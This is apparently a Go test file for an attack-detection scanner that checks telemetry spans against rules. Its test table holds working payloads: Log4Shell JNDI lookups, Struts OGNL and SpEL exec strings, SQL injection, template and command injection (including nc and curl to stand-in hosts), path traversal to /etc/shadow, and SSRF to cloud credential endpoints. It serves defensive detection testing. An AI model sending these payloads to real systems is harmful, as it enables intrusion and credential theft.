package detect

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/evidentsec/evident/internal/redact"
	"github.com/evidentsec/evident/internal/telemetry"
)

func mustRules(t testing.TB) *Rules {
	t.Helper()
	r, err := CompileRules(DefaultRules())
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// spanWith builds a SERVER span (CLIENT for server.address) with one
// attribute set.
func spanWith(field, v string) telemetry.Span {
	sp := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindServer, Name: "GET /search",
		Attrs: telemetry.Attrs{HTTPMethod: "GET", HTTPRoute: "/search"}}
	a := &sp.Attrs
	switch field {
	case "url.path":
		a.URLPath = v
	case "url.query":
		a.URLQuery = v
	case "url.full":
		a.URLFull = v
	case "user_agent.original":
		a.UserAgent = v
	case "db.query.text":
		sp.Kind = telemetry.SpanKindClient
		a.DBQueryText = v
	case "server.address":
		sp.Kind = telemetry.SpanKindClient
		a.ServerAddress = v
	default:
		name, ok := strings.CutPrefix(field, "http.request.header.")
		if !ok {
			panic(field)
		}
		a.RequestHeaders = map[string]string{name: v}
	}
	return sp
}

// ruleCases are real payloads per class and benign lookalikes that must
// not fire.
var ruleCases = []struct {
	name, field, value string
	want               string // rule id, "" for none
}{
	// JNDI / expression injection: payloads from Log4Shell scans,
	// Struts2 (CVE-2017-5638) and Spring4Shell (CVE-2022-22965).
	{"jndi plain", "user_agent.original", "${jndi:ldap://45.83.193.150:1389/Exploit}", "jndi-lookup"},
	{"jndi in header", "http.request.header.x-api-version", "${jndi:rmi://attacker.example/a}", "jndi-lookup"},
	{"jndi lower obfuscation", "url.query", "q=${${lower:j}ndi:${lower:l}dap://x.example/a}", "jndi-lookup"},
	{"jndi ::- obfuscation", "http.request.header.referer", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/p}", "jndi-lookup"},
	{"jndi env default", "user_agent.original", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://x/a}", "jndi-lookup"},
	{"jndi k8s lookup default", "user_agent.original", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/o}", "jndi-lookup"},
	{"jndi bare default", "http.request.header.x-api-version", "${${nope:-j}ndi:ldap://x.example/o}", "jndi-lookup"},
	{"jndi prefix with a dash", "user_agent.original", "${${x-y:z:-j}${x_1:z:-n}di:dns://x.example/o}", "jndi-lookup"},
	{"jndi url-encoded", "url.query", "x=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "jndi-lookup"},
	{"jndi double-encoded", "url.query", "x=%2524%257Bjndi%253Adns%253A%252F%252Fx%257D", "jndi-lookup"},
	{"jndi upper case", "user_agent.original", "${JNDI:LDAP://X.EXAMPLE/A}", "jndi-lookup"},
	{"jndi in db query", "db.query.text", "INSERT INTO audit (ua) VALUES ('${jndi:ldap://x/a}')", "jndi-lookup"},
	{"ognl struts content-type", "http.request.header.content-type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm))}", "ognl-expression"},
	{"spel T()", "url.query", "name=#{T(java.lang.Runtime).getRuntime().exec('id')}", "spel-expression"},
	{"spel T with a space", "url.query", "x=T (java.lang.Runtime).getRuntime().exec('id')", "spel-expression"},
	{"spring4shell", "url.query", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "spel-expression"},

	// Path traversal.
	{"dot-dot-slash", "url.path", "/static/../../../../etc/hosts", "path-traversal"},
	{"encoded traversal", "url.path", "/static/%2e%2e%2f%2e%2e%2fapp.yaml", "path-traversal"},
	{"double-encoded traversal", "url.path", "/download/%252e%252e%252fsecret", "path-traversal"},
	{"overlong utf-8", "url.path", "/scripts/..%c0%af..%c0%afwinnt/system32/cmd.exe", "path-traversal"},
	{"backslash traversal", "url.query", `file=..\..\windows\win.ini`, "path-traversal"},
	{"query traversal", "url.query", "file=../../config.php", "path-traversal"},
	{"etc passwd", "url.query", "page=/etc/passwd", "sensitive-file"},

	// SQL injection in parameters.
	{"tautology", "url.query", "id=1' OR '1'='1", "sqli-tautology"},
	{"tautology tab", "url.query", "id=1 or%091=1", "sqli-tautology"},
	{"tautology numeric", "url.query", "id=1 or 1=1--", "sqli-tautology"},
	{"tautology plus-encoded", "url.query", "user=admin'+or+'a'%3D'a", "sqli-tautology"},
	{"tautology plus-encoded in url.full", "url.full", "http://shop.example/login?user=admin'+or+'a'%3D'a", "sqli-tautology"},
	{"union plus-encoded in url.full", "url.full", "http://shop.example/p?id=1+union+select+1,2", "sqli-union"},
	{"union select", "url.query", "id=-1 UNION ALL SELECT username,password FROM users--", "sqli-union"},
	{"union comment obfuscation", "url.query", "id=1/**/UNION/**/SELECT/**/1,2,3", "sqli-union"},
	{"stacked drop", "url.query", "id=1; DROP TABLE users --", "sqli-stacked"},
	// What SQL reads as a space and \s does not: a vertical tab, a
	// comment; and quotes that need none.
	{"union vertical tab", "url.query", "id=1%0bunion%0bselect%0b1", "sqli-union"},
	{"union distinct", "url.query", "id=1 union distinct select 1,2", "sqli-union"},
	{"tautology quotes, no spaces", "url.query", "user=admin'or'1'='1", "sqli-tautology"},
	{"tautology comments", "url.query", "id=1'/**/or/**/'a'='a", "sqli-tautology"},
	{"tautology numeric comments", "url.query", "id=1/**/or/**/1=1", "sqli-tautology"},
	{"tautology vertical tab", "url.query", "id=1%0bor%0b1=1", "sqli-tautology"},
	{"stacked vertical tab", "url.query", "id=1;%0bdrop%0btable%0busers", "sqli-stacked"},
	// MySQL runs what a versioned comment holds (/*!50000 ... */): the
	// keywords inside one are SQL, not a comment.
	{"union versioned comments", "url.query", "id=1%20/*!50000union*/%20/*!50000select*/%201,2", "sqli-union"},
	{"union versioned comment, no version", "url.query", "id=-1/*!union*//*!select*/1", "sqli-union"},
	{"union in one versioned comment", "url.query", "id=1 /*!12345UNION SELECT*/ 1", "sqli-union"},
	{"tautology versioned comment", "url.query", "id=1 /*!or*/ 1=1", "sqli-tautology"},
	{"stacked versioned comment", "url.query", "id=1;/*!50000drop*/ table users", "sqli-stacked"},
	{"sleep versioned comment", "url.query", "id=1 and /*!50000sleep*/(5)", "sqli-timing"},
	{"stacked comment", "url.query", "id=1;/**/drop/**/table/**/users", "sqli-stacked"},
	{"sleep vertical tab", "url.query", "id=1 and sleep%0b(5)", "sqli-timing"},
	{"waitfor comment", "url.query", "id=1;waitfor/**/delay/**/'0:0:5'", "sqli-timing"},
	{"sleep", "url.query", "id=1 AND SLEEP(5)", "sqli-timing"},
	{"benchmark", "url.query", "id=1 and benchmark(5000000,md5(1))", "sqli-timing"},
	{"waitfor", "url.query", "id=1'; WAITFOR DELAY '0:0:5'--", "sqli-timing"},
	{"db tautology", "db.query.text", "SELECT * FROM users WHERE name = 'x' OR '1'='1'", "sqli-db-tautology"},
	{"db union", "db.query.text", "SELECT name FROM products WHERE id = 1 UNION SELECT NULL, password FROM users", "sqli-db-union"},
	{"db sleep", "db.query.text", "SELECT * FROM products WHERE id = 1 AND SLEEP(5)", "sqli-db-timing"},
	{"db stacked drop", "db.query.text", "SELECT * FROM t WHERE id = 1; DROP TABLE users", "sqli-db-stacked"},

	// Template injection.
	{"jinja arithmetic", "url.query", "name={{7*7}}", "template-injection"},
	{"jinja class walk", "url.query", "name={{''.__class__.__mro__[1].__subclasses__()}}", "template-injection"},
	{"el arithmetic", "url.query", "q=${7*7}", "template-injection"},
	{"erb", "url.query", "q=<%= 7*7 %>", "template-injection"},
	{"jinja encoded", "url.query", "name=%7B%7B7*7%7D%7D", "template-injection"},

	// Command injection.
	{"semicolon id", "url.query", "host=127.0.0.1; id", "command-injection"},
	{"command substitution", "url.query", "host=$(whoami)", "command-injection"},
	{"backticks", "url.query", "host=`uname -a`", "command-injection"},
	{"pipe nc", "url.query", "ip=1.1.1.1 | nc 10.0.0.1 4444", "command-injection"},
	{"and curl", "url.query", "ip=1.1.1.1 && curl http://x.example/s.sh", "command-injection"},
	{"encoded semicolon cat", "url.query", "file=x%3Bcat%20/etc/shadow", "command-injection"},
	{"shellshock ua", "user_agent.original", "() { :; }; /bin/bash -c 'id'", "command-injection"},

	// SSRF to cloud metadata.
	{"aws imds in query", "url.query", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "ssrf-cloud-metadata"},
	{"gcp metadata", "url.query", "target=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F", "ssrf-cloud-metadata"},
	{"aws ipv6 imds", "url.query", "u=http://[fd00:ec2::254]/latest/", "ssrf-cloud-metadata"},
	{"alibaba", "url.query", "u=http://100.100.100.200/latest/meta-data/", "ssrf-cloud-metadata"},
	{"decimal ip", "url.query", "u=http://2852039166/latest/", "ssrf-cloud-metadata"},
	{"outbound call to imds", "server.address", "169.254.169.254", "ssrf-cloud-metadata"},

	// Benign lookalikes that must not fire.
	{"benign path", "url.path", "/api/v1/products/42", ""},
	{"benign dotted version", "url.path", "/docs/v1.2..v1.3/compare", ""},
	{"benign file name dots", "url.path", "/files/report..final.pdf", ""},
	{"benign browser ua", "user_agent.original", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36", ""},
	{"benign ua with id", "user_agent.original", "Mozilla/5.0 (compatible; idbot/1.0; +http://id.example/bot)", ""},
	{"benign search or", "url.query", "q=cats or dogs", ""},
	{"benign search union", "url.query", "q=european union selection", ""},
	{"benign quote and order", "url.query", "q=don't order'1'", ""},
	{"benign or in a comment", "url.query", "q=a /* or 1 */ b", ""},
	{"benign semicolon", "url.query", "sort=name;desc&fields=id;title", ""},
	{"benign template name", "url.query", "greeting={{name}}", ""},
	{"benign dollar", "url.query", "price=$100&expr=${total}", ""},
	{"benign pipe", "url.query", "filter=a|b|c", ""},
	{"benign sleep word", "url.query", "q=sleep well", ""},
	{"benign jndi word", "url.query", "q=what is jndi", ""},
	{"benign encoded slash", "url.query", "next=%2Fhome%2Fdashboard", ""},
	{"benign sql", "db.query.text", "SELECT id, name FROM products WHERE category = ? OR featured = ? ORDER BY name", ""},
	{"benign sql union", "db.query.text", "SELECT id FROM a WHERE x = ? UNION SELECT id FROM b WHERE y = ?", ""},
	{"benign sql statement list", "db.query.text", "BEGIN; UPDATE stock SET n = n - 1 WHERE id = ?; COMMIT", ""},
	{"benign metadata word", "url.query", "q=google metadata internal docs", ""},
	{"benign private host", "server.address", "10.0.3.7", ""},
	{"benign ip in query", "url.query", "ip=169.254.1.1", ""},
	{"benign percent", "url.query", "discount=50%25&q=100%", ""},
}

func TestRules(t *testing.T) {
	rules := mustRules(t)
	for _, tt := range ruleCases {
		t.Run(tt.name, func(t *testing.T) {
			sp := spanWith(tt.field, tt.value)
			var got []string
			rules.Scan(&sp, func(h Hit) { got = append(got, h.Rule.ID) })
			if tt.want == "" {
				if len(got) > 0 {
					t.Errorf("Scan(%s=%q) fired %v, want nothing", tt.field, tt.value, got)
				}
				return
			}
			for _, id := range got {
				if id == tt.want {
					return
				}
			}
			t.Errorf("Scan(%s=%q) fired %v, want %s", tt.field, tt.value, got, tt.want)
		})
	}
}

// exploits returns the alerts a new Scanner of r raises on sp, built.
func exploits(r *Rules, sp *telemetry.Span, red Redactor, receivedAt, now time.Time) []Alert {
	var out []Alert
	r.NewScanner(red).Exploits(sp, receivedAt, now, func(p *Pending) { out = append(out, p.Alert()) })
	return out
}

func TestRuleAlert(t *testing.T) {
	rules := mustRules(t)
	sp := spanWith("user_agent.original", "${jndi:ldap://x.example/a}")
	sp.TraceID = [16]byte{1}
	sp.SpanID = [8]byte{2}
	sp.Start = tm(-3)
	as := exploits(rules, &sp, nil, tm(0), tm(1))
	if len(as) != 1 {
		t.Fatalf("Alerts = %d alerts, want 1", len(as))
	}
	a := as[0]
	if a.Kind != KindExploitPayload || a.Severity != Critical || a.Service != "shop" ||
		a.Evidence.Endpoint != "GET /search" || a.Evidence.Match != "${jndi:" ||
		a.Evidence.TraceID != "01000000000000000000000000000000" || a.Evidence.SpanID != "0200000000000000" ||
		a.DedupeKey != "exploit_payload|shop|GET /search|jndi-lookup" ||
		a.Observed != tm(-3) || a.ReceivedAt != tm(0) || a.Time != tm(1) {
		t.Errorf("alert = %+v", a)
	}
}

func TestRuleAlertRedacted(t *testing.T) {
	rules := mustRules(t)
	red, err := redact.New(redact.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, field, value string
		want               Evidence
	}{
		{
			name: "query", field: "url.query", value: "access_token=SECRET123&q=%24%7Bjndi:ldap://x.example/a%7D",
			want: Evidence{Rule: "jndi-lookup", Class: "jndi-injection", Field: "url.query", Match: "${jndi:",
				Value: "access_token=redacted&q=${jndi:ldap://x.example/a}", Offset: 25, Length: 7, Endpoint: "GET /search"},
		},
		{
			name: "statement", field: "db.query.text", value: "SELECT * FROM users WHERE password='hunter2' OR '1'='1'",
			want: Evidence{Rule: "sqli-db-tautology", Class: "sql-injection", Field: "db.query.text", Match: "REDACTED",
				Value: "select * from users where password=? or ?=?", Offset: 44, Length: 11, Endpoint: "GET /search"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sp := spanWith(tt.field, tt.value)
			as := exploits(rules, &sp, red, tm(0), tm(1))
			if len(as) != 1 {
				t.Fatalf("Alerts = %+v, want 1 alert", as)
			}
			if diff := cmp.Diff(tt.want, as[0].Evidence); diff != "" {
				t.Errorf("evidence (-want +got):\n%s", diff)
			}
		})
	}
}

func TestCompileRulesErrors(t *testing.T) {
	good := Rule{ID: "x", Class: "c", Fields: []Field{FieldURLPath}, Pattern: "a", Severity: High}
	tests := []struct {
		name string
		mod  func(*Rule)
		want string
	}{
		{"no id", func(r *Rule) { r.ID = "" }, "id is empty"},
		{"no class", func(r *Rule) { r.Class = "" }, "class is empty"},
		{"no fields", func(r *Rule) { r.Fields = nil }, "no fields"},
		{"pattern starting with anything", func(r *Rule) { r.Pattern = `\w+=1` }, "can start with anything"},
		{"pattern matching empty", func(r *Rule) { r.Pattern = `a?` }, "can start with anything or be empty"},
		{"upper-case literal", func(r *Rule) { r.Pattern = `Select` }, "upper-case"},
		// Past the anchors too: the rule would never fire.
		{"upper-case literal after the anchor", func(r *Rule) { r.Pattern = `select\s+FROM` }, `literal "FROM" has upper-case`},
		{"upper-case in one branch", func(r *Rule) { r.Pattern = `union|Select` }, "upper-case"},
		{"upper-case class", func(r *Rule) { r.Pattern = `a[A-Z]` }, "upper-case letters only"},
		{"bad field", func(r *Rule) { r.Fields = []Field{"http.body"} }, `unknown field "http.body"`},
		{"bad severity", func(r *Rule) { r.Severity = "urgent" }, `severity "urgent"`},
		{"bad pattern", func(r *Rule) { r.Pattern = "(" }, "pattern: error parsing regexp"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			bad := good
			tt.mod(&bad)
			other := good
			other.ID = "other"
			r, err := CompileRules([]Rule{bad, other})
			if !errors.Is(err, ErrInvalidRule) || !strings.Contains(err.Error(), "rules[0]") || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("CompileRules = %v, want rules[0] ... %s", err, tt.want)
			}
			if len(r.rules) != 1 {
				t.Errorf("the good rule was not kept: %d rules", len(r.rules))
			}
		})
	}
	if _, err := CompileRules([]Rule{good, good}); err == nil || !strings.Contains(err.Error(), "used twice") {
		t.Errorf("duplicate id: %v", err)
	}
}

func FuzzDecode(f *testing.F) {
	for _, s := range []string{"%24%7Bjndi", "..%c0%af", "%u002e", "${${lower:j}ndi:", "a+b", "%%%", "%2"} {
		f.Add(s)
	}
	rules, err := CompileRules(DefaultRules())
	if err != nil {
		f.Fatal(err)
	}
	unanchored := unanchoredPatterns(rules)
	f.Fuzz(func(t *testing.T, s string) {
		for _, p := range []plus{plusNone, plusQuery, plusURL} {
			if d := decode(s, p); len(d) > len(s) {
				t.Errorf("decode(%q, %d) = %q grew", s, p, d)
			}
		}
		checkEquivalent(t, rules, unanchored, FieldURLQuery, s)
		checkEquivalent(t, rules, unanchored, FieldURLFull, s)
		// A Scanner reports the same, scanning the value and taking it
		// from its memo.
		sp := spanWith(string(FieldURLQuery), s)
		want := hits(rules.Scan, &sp)
		sc := rules.NewScanner(nil)
		for range 2 {
			if diff := cmp.Diff(hits(sc.Scan, &sp), want); diff != "" {
				t.Errorf("Scanner.Scan of %q (-got +Rules.Scan):\n%s", s, diff)
			}
		}
	})
}

// TestNeedsDecode: what decoding a value needs before the patterns read
// it, in a query, in a URL and elsewhere.
func TestNeedsDecode(t *testing.T) {
	tests := []struct {
		v               string
		query, url, not int // in url.query, in url.full, in any other field
	}{
		{"", decodeNone, decodeNone, decodeNone},
		{"/items/42?x=1", decodeNone, decodeNone, decodeNone},
		{"/Items", decodeCase, decodeCase, decodeCase},
		{"a%20b", decodeFull, decodeFull, decodeFull},
		{"a+b", decodeFull, decodeNone, decodeNone},
		{"A+b", decodeFull, decodeCase, decodeCase},
		{"/c++/x?q=a", decodeFull, decodeNone, decodeNone},
		{"/x?q=a+b", decodeFull, decodeFull, decodeNone},
		{"/X?q=a+b", decodeFull, decodeFull, decodeCase},
		{"caf\u00e9", decodeFull, decodeFull, decodeFull},
		{"${jndi:x}", decodeFull, decodeFull, decodeFull},
		{"$x{", decodeNone, decodeNone, decodeNone},
		{"price$", decodeNone, decodeNone, decodeNone},
		{"Price$", decodeCase, decodeCase, decodeCase},
		{"$$%", decodeFull, decodeFull, decodeFull},
	}
	for _, tt := range tests {
		if got := needsDecode(tt.v, plusQuery); got != tt.query {
			t.Errorf("needsDecode(%q, query) = %d, want %d", tt.v, got, tt.query)
		}
		if got := needsDecode(tt.v, plusURL); got != tt.url {
			t.Errorf("needsDecode(%q, url) = %d, want %d", tt.v, got, tt.url)
		}
		if got := needsDecode(tt.v, plusNone); got != tt.not {
			t.Errorf("needsDecode(%q) = %d, want %d", tt.v, got, tt.not)
		}
	}
}

// TestDecodePlus: "+" is a space where a server decoding a form-encoded
// query reads one: all of url.query, and url.full after its first "?"
// (before, url.full kept it, and "?id=1+union+select+1" in a span with
// url.full alone, as the older http.url gives, passed every rule).
func TestDecodePlus(t *testing.T) {
	tests := []struct {
		name, field, v, want string
	}{
		{"query", "url.query", "id=1+union+select+1", "id=1 union select 1"},
		{"url, query part", "url.full", "http://h/p?id=1+union+select+1", "http://h/p?id=1 union select 1"},
		{"url, path kept", "url.full", "http://h/c++/x?q=a+b", "http://h/c++/x?q=a b"},
		{"url, no query", "url.full", "http://h/a+b", "http://h/a+b"},
		{"path", "url.path", "/a+b", "/a+b"},
		{"header", "http.request.header.referer", "https://h/?q=a+b", "https://h/?q=a+b"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := decode(tt.v, plusIn(tt.field)); got != tt.want {
				t.Errorf("decode(%q) in %s = %q, want %q", tt.v, tt.field, got, tt.want)
			}
		})
	}
}

// TestFieldIndexes: the scan names each field by its index in fields.
func TestFieldIndexes(t *testing.T) {
	for i, f := range map[int]Field{
		fieldURLPath: FieldURLPath, fieldURLQuery: FieldURLQuery, fieldURLFull: FieldURLFull, fieldUserAgent: FieldUserAgent,
		fieldRequestHeader: FieldRequestHeader, fieldDBQueryText: FieldDBQueryText, fieldServerAddress: FieldServerAddress,
	} {
		if fields[i] != f {
			t.Errorf("fields[%d] = %q, want %q", i, fields[i], f)
		}
	}
	if len(fields) != 7 {
		t.Errorf("%d fields, 7 indexes", len(fields))
	}
}
